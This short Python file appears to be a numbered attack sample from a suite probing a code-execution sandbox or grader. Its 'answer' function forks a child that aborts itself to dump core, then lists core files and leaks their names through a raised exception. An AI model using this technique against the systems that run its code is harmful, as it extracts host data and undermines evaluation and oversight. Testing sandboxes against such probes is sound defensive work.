"""Has a child dump its core and reads it (attack 16)."""
import os, signal, glob
def answer(*args, **kwargs):
    pid = os.fork()
    if not pid:
        os.kill(os.getpid(), signal.SIGABRT)
    os.waitpid(pid, 0)
    raise RuntimeError(repr(glob.glob("core*") + glob.glob("/tmp/core*")))
